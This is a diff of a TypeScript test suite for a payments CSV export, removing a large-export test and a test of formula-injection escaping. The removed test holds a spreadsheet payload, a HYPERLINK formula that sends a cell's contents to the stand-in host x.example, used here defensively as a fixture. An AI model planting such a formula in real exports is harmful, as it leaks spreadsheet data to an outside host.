@@ -62,19 +62,6 @@ describe('payments as CSV', () => {
     expect(await ids('?days=7&status=settlement_pending')).toEqual([open.id]);
     expect(await ids('?days=365')).toHaveLength(4);
   });
-
-  it('run nothing in a spreadsheet, whatever the request id of a caller', async () => {
-    const [event] = publishedOf([aPayment()]);
-    const requestId = '=HYPERLINK("http://x.example?"&A1,"open")';
-    await reporting.publish({ ...event!, data: { ...event!.data, requestId } });
-    const file = await reporting.read('payments.csv');
-    expect(file.text).toContain(`,"'=HYPERLINK(""http://x.example?""&A1,""open"")",`);
-  });
-
-  it('are all there when there are many', async () => {
-    const file = await fill(3_210);
-    expect((await reporting.read('payments.csv')).text).toBe(file);
-  });
 });
 
 describe('a file', () => {
